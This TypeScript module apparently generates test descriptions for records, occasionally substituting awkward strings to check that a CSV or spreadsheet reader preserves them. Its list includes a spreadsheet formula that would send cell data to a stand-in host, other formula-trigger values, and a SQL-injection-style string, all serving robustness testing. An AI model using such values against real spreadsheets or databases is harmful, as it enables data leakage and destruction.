import type { Draw } from './draw.ts';

/** What people and systems really write into a text field, and what breaks a careless reader or a spreadsheet. */
const UNUSUAL: readonly [string, ...string[]] = [
  'Payment, partial, see note',
  'Said "paid in full"',
  'First line\nsecond line',
  '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  '+55 11 5555-0100',
  '-1 instalment returned',
  '@SUM(1+1)*2',
  'Açaí & Cia São Paulo',
  'Zürich Käse, GmbH',
  '東京支店 売上',
  'Café ☕ crème',
  '  blanks on both ends  ',
  'semi;colon and tab\there',
  "O'Brien; DROP TABLE receipts",
  '',
];

/** The usual text, or one record in thirty something that a reader must carry through unchanged. */
export function descriptionOf(draw: Draw, purpose: string, index: number, usual: string): string {
  if (!draw.chance(`${purpose}/unusual`, index, 1 / 30)) return usual;
  return draw.pick(`${purpose}/text`, index, UNUSUAL);
}
